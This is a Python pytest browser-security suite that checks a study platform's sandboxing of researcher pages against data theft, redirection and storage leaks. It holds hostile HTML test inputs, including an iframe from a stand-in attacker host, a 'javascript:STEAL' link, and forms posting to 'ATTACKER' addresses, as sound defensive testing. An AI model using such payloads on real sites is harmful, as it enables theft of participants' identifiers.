"""Hostile pages: a researcher's page cannot reach the data of the page around it, or of other
participants."""

import json
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from tests.browser.attacker import SCRIPTED, Attacker, fill_in, open_attacker
from tests.browser.conftest import Visitor
from tests.browser.pages import content, expect_heading, settle, submit, submit_button
from tests.browser.site import FrontDoor
from tests.support.study_world import PAGES, StudyWorld


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    """Yield an attacker's server."""
    with open_attacker() as attacker:
        yield attacker


@pytest.fixture(params=["sandbox", "own host"])
def config(request: pytest.FixtureRequest, door: FrontDoor) -> dict[str, Any]:
    """Return a way to show researchers' pages: in a sandbox of this origin, or on a separate host."""
    return {"nextUrl": door.url, "host": request.param}


@pytest.fixture
def site(site: str, config: dict[str, Any]) -> str:
    """Yield the study page's address; in the second way its pages come from another origin, also on this
    machine."""
    if config["host"] == "own host":
        config["pagesUrl"] = site.replace("localhost", "127.0.0.1") + "/"
    return site


def open_hostile(world: StudyWorld, visitor: Visitor, attacker: Attacker, html: str) -> Page:
    """Open a study whose first page has this content, for a participant with the id `victim`."""
    world.publish({**PAGES, "consent.html": f"<h1>Consent</h1>{fill_in(html, attacker)}"})
    page = visitor.open(userId="victim", PROLIFIC_PID="secret-pid")
    expect_heading(page, "Consent")
    page.wait_for_timeout(400)
    return page


def check_unharmed(page: Page, door: FrontDoor, attacker: Attacker) -> None:
    """Check that the study is intact and continues, and that no data of its page reached the attacker."""
    told = "\n".join(attacker.asked)
    assert "victim" not in told
    assert "secret-pid" not in told
    assert door.forms() == []
    assert "victim" in page.url
    expect_heading(page, "Consent")
    submit(page)
    expect_heading(page, "Quiz")
    assert door.forms()[0].get("forged") is None


@pytest.mark.parametrize("html", SCRIPTED, ids=lambda html: html[:24])
def test_no_script_of_the_page_runs(
    world: StudyWorld, door: FrontDoor, visitor: Visitor, attacker: Attacker, html: str
) -> None:
    """Given a page with code in any form, none of it runs and the study continues."""
    page = open_hostile(world, visitor, attacker, html)

    assert [path for path in attacker.asked if path.startswith("/loot")] == []
    check_unharmed(page, door, attacker)


def test_an_embedded_page_reads_nothing_and_leads_nowhere(
    world: StudyWorld, door: FrontDoor, visitor: Visitor, attacker: Attacker
) -> None:
    """Given an embedded page from elsewhere, which may run scripts, it learns at most the site's name."""
    frame = '<iframe src="ATTACKER/embedded" referrerpolicy="unsafe-url" title="film" width="200"></iframe>'

    page = open_hostile(world, visitor, attacker, frame)

    [loot] = [path for path in attacker.asked if path.startswith("/loot")]
    for refused in ("top storage", "parent document", "top document", "top address", "leave"):
        assert f"{refused}!SecurityError" in loot
    assert not [path for path in attacker.asked if path in ("/left", "/away")]
    check_unharmed(page, door, attacker)


def test_links_open_elsewhere_and_tell_nothing(
    world: StudyWorld, door: FrontDoor, visitor: Visitor, attacker: Attacker
) -> None:
    """Given links and buttons that lead away, the study stays and no address is disclosed when they are
    clicked."""
    page = open_hostile(
        world,
        visitor,
        attacker,
        '<a href="ATTACKER/plain" target="_top">more</a> <a href="javascript:STEAL">run</a>'
        '<p id="below">below</p><a href="#below">down</a>',
    )
    with visitor.context.expect_page() as opened:
        content(page).get_by_role("link", name="more").click()
    opened.value.wait_for_url("**/plain")
    assert opened.value.evaluate("[opener, document.referrer].join('|')") == "|"
    opened.value.close()
    content(page).get_by_role("link", name="run").click()
    content(page).get_by_role("link", name="down").click()
    page.wait_for_timeout(200)

    assert [path for path in attacker.asked if path.startswith("/loot")] == []
    check_unharmed(page, door, attacker)


def test_a_form_cannot_be_sent_elsewhere(
    world: StudyWorld, door: FrontDoor, visitor: Visitor, attacker: Attacker
) -> None:
    """Given a button with its own address, the answers go only to the study when it is clicked."""
    page = open_hostile(
        world,
        visitor,
        attacker,
        '<form action="ATTACKER/form" method="post" target="_top"><input name="a" value="1">'
        '<button formaction="ATTACKER/button" formtarget="_top">Go</button></form>',
    )

    expect(submit_button(page)).to_be_enabled()
    content(page).get_by_role("button", name="Go").click()

    expect_heading(page, "Quiz")
    assert door.forms() == [{"a": "1"}]
    assert attacker.asked == []


def test_a_frame_that_was_led_away_is_brought_back(
    world: StudyWorld, door: FrontDoor, visitor: Visitor, attacker: Attacker
) -> None:
    """Given a frame in which another document was loaded, the study's page returns, with what was typed."""
    world.publish({**PAGES, "consent.html": '<h1>Consent</h1><input name="a" aria-label="a">'})
    page = visitor.open(userId="victim")
    content(page).get_by_label("a").fill("typed")
    before = door.requests.copy()

    page.evaluate(f"document.querySelector('iframe.researcher-page').src = '{attacker.url}/away'")

    expect_heading(page, "Consent")
    expect(content(page).get_by_label("a")).to_have_value("typed")
    assert door.requests == before
    assert "victim" not in "\n".join(attacker.asked)


def test_the_page_reveals_nothing_about_other_studies(
    world: StudyWorld, visitor: Visitor, config: dict[str, Any]
) -> None:
    """Given a browser that has taken part in another study, the sandbox's storage is not the page's."""
    world.publish(id="other")
    page = visitor.open("other")
    expect_heading(page, "Consent")
    page.goto(f"{visitor.site}/?projectId=mountain_car")
    expect_heading(page, "Consent")

    frame = next(frame for frame in page.frames if "frame.html" in frame.url)
    seen = frame.evaluate(
        "(() => { try { return JSON.stringify(localStorage); } catch (e) { return e.name; } })()"
    )

    own_origin = visitor.site.replace("localhost", "127.0.0.1")
    assert frame.evaluate("origin") == ("null" if config["host"] == "sandbox" else own_origin)
    assert "hippo-gym" not in seen
    assert "hippo-gym:userId:other" in page.evaluate("JSON.stringify(localStorage)")


@pytest.mark.chromium_only("it reads the clipboard by script; engines/test_pages.py pastes instead")
def test_a_page_sees_its_own_id_only_where_it_shows_it(
    world: StudyWorld, visitor: Visitor, attacker: Attacker
) -> None:
    """Given a page with the element for a code, the participant reads their id there and can copy it."""
    world.publish({**PAGES, "consent.html": '<h1>Code</h1><span class="MTURK_CODE">x</span>'})
    visitor.context.grant_permissions(["clipboard-read", "clipboard-write"])
    page = visitor.open(userId="u1")

    expect(content(page).locator("code")).to_have_text("u1")
    settle(page)
    content(page).get_by_role("button", name="Copy").click()

    expect(page.get_by_role("status")).to_have_text("Code copied.")
    assert page.evaluate("navigator.clipboard.readText()") == "u1"
    assert json.loads(page.evaluate("localStorage['hippo-gym:state:mountain_car:u1']"))["step"] == 1
